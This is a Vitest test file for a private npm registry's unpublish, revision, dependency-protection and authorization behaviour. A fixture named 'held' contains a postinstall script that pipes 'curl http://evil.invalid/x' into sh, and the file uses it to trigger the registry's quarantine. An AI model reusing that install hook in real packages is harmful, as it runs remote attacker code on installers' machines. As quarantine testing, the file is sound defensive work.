import { describe, expect, test } from "vitest";
import { temporaryFolder } from "../../support/process.ts";
import { startRegistry, type TestRegistry } from "../../support/registry.ts";
import { tarball } from "../../support/tarball.ts";
import { packumentPath, startUpstream } from "../../support/upstream.ts";

const name = "@acme/lib";
const path = "/@acme%2flib";

interface Document {
  _rev: string;
  "dist-tags": Record<string, string>;
  versions: Record<string, unknown>;
  [key: string]: unknown;
}

async function read(registry: TestRegistry, of = path): Promise<Document> {
  return (await (await registry.asOwner(`${of}?write=true`)).json()) as Document;
}

/** The document that `npm unpublish name@version` writes back. */
function without(document: Document, ...versions: string[]): Document {
  const kept = Object.entries(document.versions).filter(([v]) => !versions.includes(v));
  return { ...document, versions: Object.fromEntries(kept) };
}

function writeBack(registry: TestRegistry, document: object, rev: string, of = path) {
  return registry.asOwner(`${of}/-rev/${rev}`, { method: "PUT", json: document });
}

function remove(registry: TestRegistry, target: string) {
  return registry.asOwner(target, { method: "DELETE" });
}

async function startWithLib(...versions: string[]): Promise<TestRegistry> {
  const registry = await startRegistry();
  for (const version of versions) await registry.publish(name, version);
  return registry;
}

async function blobs(registry: TestRegistry): Promise<number> {
  let count = 0;
  for await (const _ of registry.app.blobs.list()) count++;
  return count;
}

const held = (of: string, version: string) => ({
  "package.json": JSON.stringify({
    name: of,
    version,
    scripts: { postinstall: "curl -s http://evil.invalid/x | sh" },
  }),
});

describe("unpublish one version", () => {
  test("what npm does: write back without it, then delete its tarball", async () => {
    await using registry = await startWithLib("1.0.0", "1.1.0");
    await registry.publish(name, "1.2.0-rc.1", {}, { tag: "next" });
    await registry.tarball(name, "1.1.0");
    const document = await read(registry);
    const first = await writeBack(registry, without(document, "1.1.0"), document._rev);
    expect([first.status, await first.json()]).toEqual([
      200,
      { ok: true, success: true, id: name, rev: (await read(registry))._rev },
    ]);
    const second = await remove(
      registry,
      `/@acme/lib/-/lib-1.1.0.tgz/-rev/${(await read(registry))._rev}`,
    );
    expect([second.status, await second.json()]).toMatchObject([200, { ok: true, success: true }]);

    const packument = await registry.packument(name);
    expect(Object.keys(packument.versions)).toEqual(["1.0.0", "1.2.0-rc.1"]);
    expect(packument["dist-tags"]).toEqual({ latest: "1.0.0", next: "1.2.0-rc.1" });
    expect(packument.time).not.toHaveProperty("1.1.0");
    expect((await registry.tarball(name, "1.1.0")).status).toBe(404);
    expect((await registry.fetch(`${path}/1.1.0`)).status).toBe(404);
    expect((await registry.tarball(name, "1.0.0")).status).toBe(200);
  });

  test.each([
    "/@acme%2flib/-/lib-1.0.0.tgz",
    "/@acme/lib/-/lib-1.0.0.tgz",
    "/@acme/lib/-/@acme/lib-1.0.0.tgz",
    "/@acme%2Flib/-/@acme%2Flib-1.0.0.tgz",
  ])("DELETE %s alone removes the version too", async (file) => {
    await using registry = await startWithLib("1.0.0", "1.1.0");
    const response = await remove(registry, `${file}/-rev/${(await read(registry))._rev}`);
    expect(response.status).toBe(200);
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.1.0"]);
  });

  test("trap 25: tags of a removed version go, latest moves to the newest stable one below", async () => {
    await using registry = await startWithLib("1.0.0", "1.1.0", "2.0.0", "3.0.0-rc.1");
    for (const [tag, version] of [
      ["latest", "2.0.0"],
      ["beta", "2.0.0"],
      ["old", "1.0.0"],
    ]) {
      await registry.asOwner(`/-/package/@acme%2flib/dist-tags/${tag}`, {
        method: "PUT",
        json: version,
      });
    }
    await remove(registry, "/@acme/lib/-/lib-2.0.0.tgz/-rev/undefined");
    expect((await registry.packument(name))["dist-tags"]).toEqual({
      latest: "1.1.0",
      old: "1.0.0",
    });
  });

  test("the versions of the document count and nothing else of it", async () => {
    await using registry = await startWithLib("1.0.0", "1.1.0", "1.2.0");
    const document = await read(registry);
    await writeBack(
      registry,
      {
        ...without(document, "1.0.0"),
        "dist-tags": { latest: "1.1.0", evil: "1.1.0" },
        description: "altered",
        versions: {
          ...without(document, "1.0.0").versions,
          "1.1.0": { deprecated: "altered", dist: { tarball: "http://evil.invalid/" } },
          "9.9.9": { name, version: "9.9.9" },
        },
        _attachments: {},
      },
      document._rev,
    );
    const after = await registry.packument(name);
    expect(Object.keys(after.versions)).toEqual(["1.1.0", "1.2.0"]);
    expect(after["dist-tags"]).toEqual({ latest: "1.2.0" });
    expect(after.versions["1.1.0"]).toEqual(document.versions["1.1.0"]);
    expect(after["description"]).toBeUndefined();
  });

  test("a held version is in no document, so none removes it by silence", async () => {
    await using registry = await startWithLib("1.0.0", "1.1.0");
    expect((await registry.publish(name, "1.2.0", held(name, "1.2.0"))).status).toBe(403);
    const document = await read(registry);
    expect(Object.keys(document.versions)).toEqual(["1.0.0", "1.1.0"]);
    await writeBack(registry, without(document, "1.0.0"), document._rev);

    await registry.asOwner(`/-/admin/quarantine/${encodeURIComponent(`${name}@1.2.0`)}/approve`, {
      method: "POST",
      json: { reason: "read it" },
    });
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.1.0", "1.2.0"]);
    // Its approval made a document that does not know it stale.
    const late = await writeBack(registry, without(document, "1.0.0", "1.1.0"), document._rev);
    expect(late.status).toBe(409);
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.1.0", "1.2.0"]);
  });

  test("a held version can be removed by its tarball, and no longer waits for a person", async () => {
    await using registry = await startWithLib("1.0.0");
    await registry.publish(name, "1.2.0", held(name, "1.2.0"));
    expect((await remove(registry, "/@acme/lib/-/lib-1.2.0.tgz/-rev/x")).status).toBe(200);
    expect(await (await registry.asOwner("/-/admin/quarantine")).json()).toEqual({ files: [] });
    expect((await registry.tarball(name, "1.2.0")).status).toBe(404);
  });
});

describe("revisions", () => {
  test.each(["undefined", "null", "1-abc", "77-ffff", "x", "0", "%7B%7D"])(
    "trap 45: a revision that we never gave out (%s) is taken",
    async (rev) => {
      await using registry = await startWithLib("1.0.0", "1.1.0");
      const response = await writeBack(registry, without(await read(registry), "1.0.0"), rev);
      expect(response.status).toBe(200);
      expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.1.0"]);
    },
  );

  test("a revision of ours that is stale is refused, and nothing is removed", async () => {
    await using registry = await startWithLib("1.0.0", "1.1.0");
    const document = await read(registry);
    await registry.publish(name, "1.2.0");
    for (const response of [
      await writeBack(registry, without(document, "1.0.0"), document._rev),
      await remove(registry, `/@acme/lib/-/lib-1.0.0.tgz/-rev/${document._rev}`),
      await remove(registry, `${path}/-rev/${document._rev}`),
    ]) {
      expect([response.status, await response.json()]).toEqual([
        409,
        expect.objectContaining({
          error: "@acme/lib was changed since you read it; read it again and repeat the command",
          code: "stale_revision",
        }),
      ]);
    }
    expect(Object.keys((await registry.packument(name)).versions)).toHaveLength(3);
  });

  test("the same call again succeeds and changes nothing", async () => {
    await using registry = await startWithLib("1.0.0", "1.1.0", "1.2.0");
    const written = without(await read(registry), "1.0.0");
    const steps = [
      () => writeBack(registry, written, written._rev),
      () => remove(registry, `/@acme/lib/-/lib-1.1.0.tgz/-rev/undefined`),
      () => remove(registry, `${path}/-rev/${written._rev.replace(/^\d+/, "5")}`),
    ];
    for (const step of steps) {
      expect((await step()).status).toBe(200);
      const after = await registry.fetch(path);
      const { request_id: _, ...document } = (await after.json()) as Record<string, unknown>;
      const again = await step();
      expect([again.status, await again.json()]).toMatchObject([200, { ok: true, success: true }]);
      const now = await registry.fetch(path);
      expect(await now.json()).toEqual(
        after.status === 200 ? document : expect.objectContaining(document),
      );
    }
  });
});

describe("unpublish a whole package", () => {
  test("removes every version; the name stays here and its numbers stay spent", async () => {
    await using upstream = startUpstream();
    await using registry = await startRegistry({ upstream });
    await registry.publish("mine", "1.0.0");
    await registry.publish("mine", "1.1.0");
    const document = await read(registry, "/mine");
    const response = await remove(registry, `/mine/-rev/${document._rev}`);
    expect([response.status, await response.json()]).toMatchObject([200, { ok: true }]);
    // Somebody takes the name on the public registry.
    upstream.add("mine", "9.0.0");
    const asked = upstream.seen(packumentPath("mine")).length;

    expect((await registry.fetch("/mine")).status).toBe(404);
    expect((await registry.fetch("/mine/9.0.0")).status).toBe(404);
    expect((await registry.tarball("mine", "1.0.0")).status).toBe(404);
    expect((await registry.tarball("mine", "9.0.0")).status).toBe(404);
    expect((await registry.fetch("/-/package/mine/dist-tags")).status).toBe(404);
    expect(upstream.seen(packumentPath("mine"))).toHaveLength(asked);
    expect((await registry.publish("mine", "1.0.0")).status).toBe(403);

    expect((await registry.publish("mine", "1.2.0")).status).toBe(201);
    const packument = await registry.packument("mine");
    expect(packument["dist-tags"]).toEqual({ latest: "1.2.0" });
    expect(packument["_rev"]).not.toBe(document._rev);
  });

  test("a document cannot do it by leaving every version out", async () => {
    await using registry = await startWithLib("1.0.0");
    const document = await read(registry);
    const response = await writeBack(registry, { ...document, versions: {} }, document._rev);
    expect([response.status, await response.json()]).toEqual([
      400,
      expect.objectContaining({ error: expect.stringContaining("would remove every version") }),
    ]);
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.0.0"]);
  });
});

describe("a number once used is spent", () => {
  test("trap 47: other bytes, and the same bytes, are refused for ever", async () => {
    await using registry = await startRegistry();
    const bytes = tarball({}, { name, version: "1.0.0" });
    await registry.publish(name, "1.0.0", bytes);
    await registry.publish(name, "1.1.0");
    await remove(registry, "/@acme/lib/-/lib-1.0.0.tgz/-rev/undefined");

    for (const again of [bytes, tarball({ "a.js": "1" }, { name, version: "1.0.0" })]) {
      const response = await registry.publish(name, "1.0.0", again);
      expect([response.status, await response.json()]).toEqual([
        403,
        expect.objectContaining({
          error:
            "@acme/lib@1.0.0 was published and removed, so its number is spent; publish a new " +
            "version number",
          code: "version_spent",
        }),
      ]);
    }
    expect((await registry.tarball(name, "1.0.0")).status).toBe(404);
    expect((await registry.publish(name, "1.0.1")).status).toBe(201);
  });

  test("bytes that nothing points at go with the next start, shared ones stay", async () => {
    using folder = temporaryFolder();
    const home = folder.path;
    await using kept = await startRegistry({ home });
    await kept.publish(name, "1.0.0", { "a.txt": "a" });
    await kept.publish(name, "1.1.0", { "b.txt": "b" });
    expect(await blobs(kept)).toBe(2);
    await remove(kept, "/@acme/lib/-/lib-1.0.0.tgz/-rev/undefined");
    await kept[Symbol.asyncDispose]();

    await using again = await startRegistry({ home });
    expect(await blobs(again)).toBe(1);
    expect((await again.tarball(name, "1.1.0")).status).toBe(200);
  });
});

describe("what is needed stays", () => {
  const needs = (dependency: string, range: string, kind = "dependencies") => ({
    manifest: { [kind]: { [dependency]: range } },
  });
  const drop = (registry: TestRegistry, version: string) =>
    remove(registry, `/@acme/lib/-/lib-${version}.tgz/-rev/undefined`);

  test.each([
    ["an exact version", "1.0.0", "dependencies"],
    ["a range with nothing else in it", "~1.0.0", "dependencies"],
    ["an optional dependency", "1.0.0", "optionalDependencies"],
    ["a peer dependency", "1.0.0", "peerDependencies"],
    ["an alias", "npm:@acme/lib@1.0.0", "dependencies"],
    ["a dist-tag", "beta", "dependencies"],
  ])("%s keeps it", async (_, range, kind) => {
    await using registry = await startWithLib("1.0.0", "1.1.0");
    await registry.asOwner("/-/package/@acme%2flib/dist-tags/beta", {
      method: "PUT",
      json: "1.0.0",
    });
    const key = range.startsWith("npm:") ? "other" : name;
    await registry.publish("@acme/app", "1.0.0", {}, needs(key, range, kind));
    const document = await read(registry);

    for (const response of [
      await drop(registry, "1.0.0"),
      await writeBack(registry, without(document, "1.0.0"), document._rev),
      await remove(registry, `${path}/-rev/${document._rev}`),
    ]) {
      expect([response.status, await response.json()]).toEqual([
        403,
        expect.objectContaining({
          error: expect.stringContaining("cannot be removed while @acme/app@1.0.0 needs it"),
          code: "has_dependents",
          dependents: ["@acme/app@1.0.0"],
        }),
      ]);
    }
    expect(Object.keys((await registry.packument(name)).versions)).toHaveLength(2);
    expect((await remove(registry, "/@acme%2fapp/-rev/undefined")).status).toBe(200);
    expect((await drop(registry, "1.0.0")).status).toBe(200);
  });

  test.each([
    ["a range that another version fits", "^1.0.0", "dependencies"],
    ["any version", "*", "dependencies"],
    ["latest, which moves", "latest", "dependencies"],
    ["a range that it is not in", "^1.1.0", "dependencies"],
    ["a dependency of developers", "1.0.0", "devDependencies"],
    ["a git repository", "git+ssh://git@host.invalid/x.git#1.0.0", "dependencies"],
  ])("%s does not", async (_, range, kind) => {
    await using registry = await startWithLib("1.0.0", "1.1.0");
    await registry.publish("@acme/app", "1.0.0", {}, needs(name, range, kind));
    expect((await drop(registry, "1.0.0")).status).toBe(200);
  });

  test("a version that is held is no replacement", async () => {
    await using registry = await startWithLib("1.0.0");
    await registry.publish(name, "1.0.1", held(name, "1.0.1"));
    await registry.publish("@acme/app", "1.0.0", {}, needs(name, "^1.0.0"));
    expect((await drop(registry, "1.0.0")).status).toBe(403);
  });

  test("names five of many", async () => {
    await using registry = await startWithLib("1.0.0");
    for (const letter of "gfedcba") {
      await registry.publish(`@acme/${letter}`, "1.0.0", {}, needs(name, "1.0.0"));
    }
    const response = await drop(registry, "1.0.0");
    expect(await response.json()).toMatchObject({
      error:
        "@acme/lib@1.0.0 cannot be removed while @acme/a@1.0.0, @acme/b@1.0.0, @acme/c@1.0.0, " +
        "@acme/d@1.0.0, @acme/e@1.0.0, 2 more published here need it; deprecate it instead, or " +
        "remove those first",
      dependents_total: 7,
    });
  });

  test("versions that go together do not keep each other", async () => {
    await using registry = await startWithLib("1.0.0");
    await registry.publish(name, "2.0.0", {}, needs(name, "1.0.0"));
    expect((await drop(registry, "1.0.0")).status).toBe(403);
    expect((await remove(registry, `${path}/-rev/undefined`)).status).toBe(200);
  });

  test("dependencies of versions from before there was a list are found at the next start", async () => {
    using folder = temporaryFolder();
    const home = folder.path;
    await using old = await startRegistry({ home });
    await old.publish(name, "1.0.0");
    await old.publish("@acme/app", "1.0.0", {}, needs(name, "1.0.0"));
    await old.app.db.write(async (tx) => {
      await tx`delete from dependencies`;
      await tx`update versions set dependencies_listed = 0`;
    });
    await old[Symbol.asyncDispose]();

    await using registry = await startRegistry({ home });
    expect((await drop(registry, "1.0.0")).status).toBe(403);
  });
});

describe("who may", () => {
  test("trap 46: nobody and strangers are refused with 401 and 403, never with a 404", async () => {
    await using upstream = startUpstream();
    upstream.add("left-pad", "1.0.0");
    await using registry = await startRegistry({ upstream });
    await registry.publish(name, "1.0.0");
    const json = { reason: "", scopes: ["publish"], org: "other" };
    await registry.asOwner("/-/admin/orgs", { method: "POST", json: { name: "other" } });
    const made = await registry.asOwner("/-/admin/tokens", {
      method: "POST",
      json: { scopes: json.scopes, org: json.org },
    });
    const { secret } = (await made.json()) as { secret: string };

    for (const [method, target] of [
      ["PUT", `${path}/-rev/1`],
      ["DELETE", `${path}/-rev/1`],
      ["DELETE", `${path}/-/lib-1.0.0.tgz/-rev/1`],
      ["DELETE", "/nothing/-rev/1"],
    ] as const) {
      const body = method === "PUT" ? { json: { versions: { "2.0.0": {} } } } : {};
      expect((await registry.fetch(target, { method, ...body })).status).toBe(401);
      expect((await registry.fetch(target, { method, ...body, token: secret })).status).toBe(403);
    }
    for (const target of ["/left-pad/-rev/1", "/left-pad/-/left-pad-1.0.0.tgz/-rev/1"]) {
      expect((await remove(registry, target)).status).toBe(403);
    }
    expect((await remove(registry, "/nothing/-rev/1")).status).toBe(404);
    expect((await remove(registry, `${path}/-/lib-7.0.0.tgz/-rev/1`)).status).toBe(404);
    expect((await remove(registry, `${path}/-/other.tgz/-rev/1`)).status).toBe(404);
    expect((await registry.tarball(name, "1.0.0")).status).toBe(200);
  });

  test("trap 48: a star, or a list of maintainers, removes nothing", async () => {
    await using registry = await startWithLib("1.0.0");
    const { _id, _rev } = await read(registry);
    await registry.asOwner(path, { method: "PUT", json: { _id, _rev, users: { owner: true } } });
    await writeBack(registry, { _id, _rev, users: { owner: true } }, _rev);
    await writeBack(registry, { ...(await read(registry)), users: { owner: true } }, _rev);
    await writeBack(registry, { _id, _rev, maintainers: [{ name: "owner" }] }, _rev);
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.0.0"]);
  });

  test.each([
    ["another package's document", { name: "other", versions: { "1.0.0": {} } }],
    ["a list", []],
    ["null", null],
    ["nothing that counts", { _id: name }],
    ["versions that are no object", { versions: [] }],
  ])("refuses %s", async (_, document) => {
    await using registry = await startWithLib("1.0.0");
    expect((await writeBack(registry, document as object, "1")).status).toBe(400);
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.0.0"]);
  });
});
